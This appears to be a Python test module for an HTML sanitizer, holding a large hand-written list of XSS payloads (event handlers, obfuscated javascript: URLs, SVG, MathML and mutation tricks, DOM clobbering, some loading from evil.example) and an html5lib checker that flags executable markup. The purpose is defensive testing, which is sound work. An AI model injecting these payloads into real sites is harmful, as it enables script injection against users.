"""Known kinds of XSS payloads, written for these tests, and a checker for executable HTML.

Each vector is a snippet an attacker could place in an article. The checker
parses HTML the way a browser would (html5lib, an HTML5 tree builder) and
lists every construct that could run code or load a document: script-capable
elements, event handlers, script URLs, plug-ins, frames other than the allowed
video hosts, form controls, ``<base>``/``<meta http-equiv>``, styles.
"""

from __future__ import annotations

import functools
import html as html_module
import re
from typing import Any

# (name, snippet). Grouped by technique; all hand-written.
VECTORS: list[tuple[str, str]] = [
    # Plain script and event handlers.
    ("script", "<script>alert(1)</script>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("img-onerror", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-unquoted", "<img src=x onerror=alert(1)//>"),
    ("img-onerror-slash", '<img/src="x"/onerror="alert(1)">'),
    ("img-onerror-newline", '<img src="x"\nonerror\n=\n"alert(1)">'),
    ("body-onload", '<body onload="alert(1)"><p>text</p></body>'),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover me please</div>'),
    ("a-onclick", '<a href="#" onclick="alert(1)">click</a>'),
    ("uppercase-handler", '<p ONCLICK="alert(1)" OnMouseOver="alert(2)">text</p>'),
    ("details-ontoggle", '<details open ontoggle="alert(1)"><summary>s</summary>d</details>'),
    ("video-onerror", '<video src="x" onerror="alert(1)"></video>'),
    ("audio-source-onerror", '<audio><source src="x" onerror="alert(1)"></audio>'),
    ("marquee-onstart", '<marquee onstart="alert(1)">m</marquee>'),
    ("custom-element-handler", '<x-widget onfocus="alert(1)" autofocus tabindex="1">w</x-widget>'),
    ("focus-autofocus", '<p contenteditable autofocus onfocus="alert(1)">edit</p>'),
    # Attribute injection: breaking out of a quoted value, odd quoting.
    ("attr-breakout", '<img src="x" alt="a" onerror="alert(1)" title="t">'),
    ("attr-backtick", "<img src=`x` onerror=`alert(1)`>"),
    ("attr-quote-in-name", '<img src=x x"onerror="alert(1)">'),
    ("attr-no-space", '<img src="x"onerror="alert(1)">'),
    ("attr-entity-quote", '<a title="&quot; onclick=&quot;alert(1)" href="/x">t</a>'),
    ("attr-gt-breakout", '<p title="</p><script>alert(1)</script>">t</p>'),
    # javascript: and friends, plain and obfuscated.
    ("js-href", '<a href="javascript:alert(1)">link</a>'),
    ("js-href-case", '<a href="JaVaScRiPt:alert(1)">link</a>'),
    ("js-href-leading-space", '<a href="  javascript:alert(1)">link</a>'),
    ("js-href-tab", '<a href="jav\tascript:alert(1)">link</a>'),
    ("js-href-newline", '<a href="java\nscript:alert(1)">link</a>'),
    ("js-href-entity-tab", '<a href="jav&#x09;ascript:alert(1)">link</a>'),
    ("js-href-entity-newline", '<a href="jav&#10;ascript:alert(1)">link</a>'),
    ("js-href-decimal", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>'),
    ("js-href-hex-no-semicolon", '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">link</a>'),
    ("js-href-padded-decimal", '<a href="&#0000106&#0000097vascript:alert(1)">link</a>'),
    ("js-href-named-colon", '<a href="javascript&colon;alert(1)">link</a>'),
    ("js-href-control-char", '<a href="\x01javascript:alert(1)">link</a>'),
    ("js-href-nbsp-entity", '<a href="&#160;javascript:alert(1)">link</a>'),
    ("js-href-double-encoded", '<a href="&amp;#106;avascript:alert(1)">link</a>'),
    ("vbscript-href", '<a href="vbscript:msgbox(1)">link</a>'),
    ("data-html-href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>'),
    ("js-img-src", '<img src="javascript:alert(1)">'),
    ("js-srcset", '<img src="a.png" srcset="a.png 1x, javascript:alert(1) 2x">'),
    ("js-video-poster", '<video poster="javascript:alert(1)" src="v.mp4"></video>'),
    ("js-blockquote-cite", '<blockquote cite="javascript:alert(1)">quoted words</blockquote>'),
    ("js-area", '<map name="m"><area shape="rect" coords="0,0,1,1" href="javascript:alert(1)"></map>'),
    ("js-background", '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>'),
    ("js-dynsrc-lowsrc", '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(2)" src="a.png">'),
    ("js-data-attr", '<img data-src="javascript:alert(1)" src="a.png">'),
    ("svg-data-image", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    # SVG payloads.
    ("svg-onload", '<svg onload="alert(1)"><circle r="4"></circle></svg>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-script-href", '<svg><script xlink:href="data:,alert(1)"></script></svg>'),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">t</text></a></svg>'),
    ("svg-a-href", '<svg><a href="javascript:alert(1)"><rect width="9" height="9"></rect></a></svg>'),
    (
        "svg-animate-href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><text>t</text></a></svg>',
    ),
    ("svg-set-handler", '<svg><set attributeName="onmouseover" to="alert(1)"></set></svg>'),
    ("svg-use-external", '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"></use></svg>'),
    (
        "svg-foreignobject",
        '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    ),
    ("svg-image-js", '<svg><image href="javascript:alert(1)"></image></svg>'),
    ("svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-title-breakout", "<svg><title><img src=x onerror=alert(1)></title></svg>"),
    ("svg-handler-element", '<svg><handler type="text/javascript">alert(1)</handler></svg>'),
    # MathML payloads.
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mtext>x</mtext></maction></math>',
    ),
    (
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    ),
    (
        "math-mtext-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    ("math-mi-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    # noscript, template, raw-text and namespace tricks.
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'),
    ("noscript-style", "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>"),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("template-shadowroot", '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'),
    ("textarea-breakout", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></p></textarea>'),
    ("title-breakout", '<title><p title="</title><img src=x onerror=alert(1)>"></p></title>'),
    ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>'),
    ("noembed-breakout", '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></p></noembed>'),
    ("noframes-breakout", '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></p></noframes>'),
    (
        "iframe-text-breakout",
        '<iframe src="https://www.youtube.com/embed/x"></iframe><img src=x onerror=alert(1)></iframe>',
    ),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("select-breakout", "<select><option><style></option></select><img src=x onerror=alert(1)></style>"),
    ("table-foster-script", "<table><script>alert(1)</script><tr><td>c</td></tr></table>"),
    # Comment and CDATA confusion.
    ("comment-script", "<!--<script>alert(1)</script>-->"),
    ("comment-bang-close", "<!-- x --!><img src=x onerror=alert(1)> -->"),
    ("comment-in-attr", '<p title="<!--"><img src=x onerror=alert(1)>--></p>'),
    ("comment-unterminated", "<!--><img src=x onerror=alert(1)>-->"),
    ("cdata-svg", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("cdata-html", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?><p>text</p>'),
    # Document-level redirections.
    ("base-href", '<base href="javascript:alert(1)//"><a href="/x">relative</a>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    (
        "meta-refresh-data",
        '<meta http-equiv="refresh" content="0;url=data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">',
    ),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    # Forms.
    ("form-action", '<form action="javascript:alert(1)"><input type="submit" value="go"></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">go</button></form>'),
    ("input-formaction", '<input type="image" src="x" formaction="javascript:alert(1)">'),
    ("input-autofocus", '<input autofocus onfocus="alert(1)">'),
    ("isindex", '<isindex action="javascript:alert(1)" type="image">'),
    ("keygen", '<keygen autofocus onfocus="alert(1)">'),
    # Frames and plug-ins.
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
    (
        "iframe-video-srcdoc",
        '<iframe src="https://www.youtube.com/embed/x" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    ),
    ("iframe-video-onload", '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>'),
    ("iframe-evil-query", '<iframe src="https://evil.example/?u=//www.youtube.com/embed/x"></iframe>'),
    ("iframe-evil-userinfo", '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>'),
    ("iframe-evil-suffix", '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'),
    ("iframe-data", '<iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    (
        "object-video",
        '<object data="https://www.youtube.com/v/x"><param name="src" value="javascript:alert(1)"></object>',
    ),
    ("embed", '<embed src="javascript:alert(1)">'),
    ("embed-video", '<embed src="https://www.youtube.com/v/x" type="application/x-shockwave-flash">'),
    ("applet", '<applet code="X.class" codebase="https://evil.example/"></applet>'),
    # Styles.
    ("style-element", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-expression", '<p style="width: expression(alert(1))">text</p>'),
    ("style-url-js", '<p style="background-image: url(javascript:alert(1))">text</p>'),
    ("style-escaped", '<p style="background:url(\\6a avascript:alert(1))">text</p>'),
    ("style-binding", '<p style="-moz-binding: url(https://evil.example/x.xml#x)">text</p>'),
    ("style-behavior", '<p style="behavior: url(x.htc)">text</p>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    # Legacy IE data binding and friends.
    (
        "datasrc",
        '<xml id="x"><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml><span datasrc="#x" datafld="b" dataformatas="html"></span>',
    ),
    ("xss-tag", '<xss style="behavior: url(x.htc)" onclick="alert(1)">x</xss>'),
    ("namespaced-script", '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'),
    ("xlink-on-html", '<a xlink:href="javascript:alert(1)" href="/ok">link</a>'),
    # What hurts the page that shows the article: clobbering, tabnabbing, remote loads, frames.
    (
        "clobber-document-names",
        '<img src="a.png" name="getElementById"><img src="b.png" name="cookie"><img name="body">',
    ),
    ("clobber-document-id-and-name", '<img src="a.png" id="querySelector" name="querySelector">'),
    ("clobber-window-id", '<p id="location">l</p><p id="defaultConfig">c</p><a id="addEventListener">a</a>'),
    ("clobber-form-names", '<img name="action"><img id="submit"><a name="attributes">a</a>'),
    ("clobber-collection", '<a id="config">1</a><a id="config" name="url" href="cid:x">2</a>'),
    ("tabnabbing-opener", '<a href="https://a.example/" target="_blank" rel="opener">link</a>'),
    ("tabnabbing-top", '<a href="https://a.example/" target="_top">top</a><a href="/x" target="_parent">up</a>'),
    ("tabnabbing-named", '<a href="https://a.example/" target="reader">named</a>'),
    (
        "svg-data-prefixed-script",
        '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnPjx4OnNjcmlwdCB4bWxuczp4PSdodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2Zyc+YWxlcnQoMjAxKTwveDpzY3JpcHQ+PC9zdmc+">',
    ),
    (
        "svg-fill-remote",
        '<svg><rect width="9" height="9" fill="url(https://evil.example/p.svg#p)" clip-path="url(//evil.example/c.svg#c)" mask="url(https://evil.example/m.svg#m)"></rect></svg>',
    ),
    ("svg-image-remote", '<svg><image href="https://evil.example/i.svg" width="9" height="9"></image></svg>'),
    ("iframe-video-http", '<iframe src="http://www.youtube.com/embed/x"></iframe>'),
    (
        "iframe-video-named",
        '<iframe src="https://www.youtube.com/embed/x" name="v"></iframe><a href="https://a.example/" target="v">x</a>',
    ),
    (
        "iframe-video-unsandboxed",
        '<iframe src="https://www.youtube.com/embed/x" sandbox="allow-top-navigation allow-scripts"></iframe>',
    ),
    ("iframe-user-upload", '<iframe src="https://archive.org/embed/evil-upload"></iframe>'),
]


# Generated: every script-URL spelling in every slot that takes a URL, and
# markup that an HTML parser rebuilds differently on a second pass.
SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \x01\x10javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "&#x2028;javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "https://www.youtube.com/embed/x#javascript:alert(1)",
    "//www.youtube.com@evil.example/embed/x",
]
URL_SLOTS = [
    '<a href="{}">link</a>',
    '<a href="{}" target="_blank" rel="opener">new tab</a>',
    '<img src="{}" alt="i">',
    '<img src="a.png" srcset="{} 2x">',
    '<video poster="{}" src="{}"></video>',
    '<audio controls><source src="{}"></audio>',
    '<iframe src="{}"></iframe>',
    '<svg><a xlink:href="{}"><text y="9">t</text></a></svg>',
    '<svg><image href="{}" width="9" height="9"></image></svg>',
    '<svg><use href="{}"></use></svg>',
    '<svg><rect width="9" height="9" fill="url({})"></rect></svg>',
    '<math><mi href="{}">x</mi></math>',
    '<blockquote cite="{}">q</blockquote>',
    '<form action="{}"><button>go</button></form>',
    '<object data="{}"></object>',
    '<base href="{}"><a href="rel">relative</a>',
]
MUTATIONS = [
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mi><table><mi><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><foreignobject><p><style><img src=x onerror=alert(1)></style></p></foreignobject></svg>",
    "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<a><table><a><img src=x onerror=alert(1)></a></table></a>",
    '<p id="</p><img src=x onerror=alert(1)>">',
    "<svg><desc><svg><style><img src=x onerror=alert(1)></style></svg></desc></svg>",
]


def generated_vectors() -> list[tuple[str, str]]:
    vectors = [
        (f"url-{i}-{j}", slot.format(url, url)) for i, slot in enumerate(URL_SLOTS) for j, url in enumerate(SCRIPT_URLS)
    ]
    vectors += [(f"mutation-{i}", v) for i, v in enumerate(MUTATIONS)]
    return vectors


# ---------------------------------------------------------------------------
# The checker
# ---------------------------------------------------------------------------

_SCRIPT_CAPABLE = frozenset(
    """
    script style object embed applet param frame frameset base link template noscript
    noembed noframes xmp plaintext form input button select option textarea keygen
    foreignobject animate animatemotion animatetransform set handler annotation-xml portal
    """.split()
)
_URL_ATTRIBUTES = frozenset(
    """
    href src action formaction poster background cite longdesc data codebase dynsrc lowsrc
    usemap manifest ping profile srcset xlink:href
    """.split()
)
_BLANKS = re.compile(r"[\x00-\x20\x7f-\x9f\u00a0\u2000-\u200f\u2028-\u202f\u3000\ufeff]+")
_SCRIPT_URL = re.compile(r"(?:java|vb|live)script:|data:text/html", re.IGNORECASE)
_SAFE_SCHEMES = ("http:", "https:", "ftp:", "mailto:", "tel:")
_SCHEME = re.compile(r"[a-z][a-z0-9+.\-]*:")


def _squeeze(value: str) -> str:
    for _ in range(3):
        value = html_module.unescape(value)
    return _BLANKS.sub("", value).lower()


def _local(name: str) -> str:
    return name.rsplit("}", 1)[-1].lower()


def _attr_name(name: str) -> str:
    if name.startswith("{http://www.w3.org/1999/xlink}"):
        return "xlink:" + name.rsplit("}", 1)[1]
    return _local(name)


PREFIX = "user-content-"
SANDBOX = {"allow-scripts", "allow-same-origin", "allow-presentation", "allow-popups"}
_CSS_URL = re.compile(r"""url\(\s*['"]?([^'")]*)""", re.IGNORECASE)


def embedding_hazards(html: str) -> list[str]:
    """What in ``html`` could hurt the page that embeds it, without running script.

    Ids and names not prefixed (DOM clobbering), ``target`` other than
    ``_blank`` or without ``noopener``, ``rel=opener``, SVG ``data:`` URLs,
    remote resources named by SVG, frames without ``https``, with a name or
    with a sandbox other than the player's.
    """
    problems: list[str] = []
    fragment = _fragment(html)
    for el in fragment.iter():
        if not isinstance(el.tag, str):
            continue
        name = _local(el.tag)
        attrs = {_attr_name(k): v for k, v in el.attrib.items()}
        for key in ("id", "name"):
            if attrs.get(key) and not attrs[key].startswith(PREFIX):
                problems.append(f"<{name} {key}={attrs[key]!r}>")
        rel = attrs.get("rel", "").lower().split()
        if "opener" in rel:
            problems.append(f"<{name} rel=opener>")
        target = attrs.get("target")
        if target is not None and (target != "_blank" or not {"noopener", "noreferrer"} <= set(rel)):
            problems.append(f"<{name} target={target!r} rel={rel}>")
        for key, value in attrs.items():
            squeezed = _squeeze(value)
            if "data:image/svg" in squeezed or ("data:" in squeezed and "svg" in squeezed.split(",", 1)[0]):
                problems.append(f"<{name} {key}> with an SVG data: URL")
            if name not in ("a",) and key in ("href", "xlink:href") and not squeezed.startswith(("#", "data:image/")):
                problems.append(f"<{name} {key}={value!r}> loads from elsewhere")
            if any(not url.strip().startswith("#") for url in _CSS_URL.findall(value)):
                problems.append(f"<{name} {key}={value!r}> loads from elsewhere")
        if name == "iframe":
            if not attrs.get("src", "").startswith("https://"):
                problems.append("<iframe> without https")
            if set(attrs.get("sandbox", "allow-top-navigation").split()) != SANDBOX:
                problems.append(f"<iframe sandbox={attrs.get('sandbox')!r}>")
    return problems


@functools.lru_cache(maxsize=4)
def _fragment(html: str) -> Any:
    """``html`` parsed by html5lib as a ``<div>``'s content (read, never changed: the checks share it)."""
    import html5lib

    return html5lib.parseFragment(html, container="div", treebuilder="etree")


def executable_constructs(html: str, video_regex: re.Pattern[str] | None = None) -> list[str]:
    """Everything in ``html`` (parsed by an HTML5 parser as a body fragment) that could run code."""
    problems: list[str] = []
    fragment = _fragment(html)
    stack = [fragment]
    while stack:
        el = stack.pop()
        stack.extend(el)
        tag = el.tag
        if not isinstance(tag, str):
            problems.append(f"comment or other node {tag!r}")
            continue
        name = _local(tag)
        if name in _SCRIPT_CAPABLE:
            problems.append(f"<{name}>")
        if name == "meta" and any(_attr_name(k) != "itemprop" and _attr_name(k) != "content" for k in el.attrib):
            problems.append("<meta> with more than microdata")
        if name == "iframe":
            src = el.get("src") or ""
            if not (src.startswith(("https://", "http://")) and video_regex and video_regex.search(src)):
                problems.append(f"<iframe src={src!r}>")
            if len(el) or (el.text or "").strip():
                problems.append("<iframe> with content")
        for key, value in el.attrib.items():
            attr = _attr_name(key)
            if attr.startswith("on"):
                problems.append(f"<{name} {attr}>")
            elif attr in ("style", "srcdoc", "formaction", "action", "datasrc", "datafld", "is"):
                problems.append(f"<{name} {attr}>")
            squeezed = _squeeze(value)
            if attr in _URL_ATTRIBUTES and attr != "srcset":
                # A URL: what counts is its scheme (``https://x/javascript:`` is a path).
                scheme = _SCHEME.match(squeezed)
                if (
                    scheme
                    and not squeezed.startswith(_SAFE_SCHEMES)
                    and not (squeezed.startswith("data:image/") and name in ("img", "source", "video", "image"))
                    and squeezed != "about:blank"
                ):
                    problems.append(f"<{name} {attr}={value!r}>")
            elif attr == "srcset":
                for url in re.split(r"[\s,]+", html_module.unescape(value)):
                    if _SCRIPT_URL.match(_squeeze(url)):
                        problems.append(f"<{name} srcset={value!r}>")
            elif _SCRIPT_URL.search(squeezed):  # anything else may hold a URL anywhere
                problems.append(f"<{name} {attr}={value!r}>")
    return problems
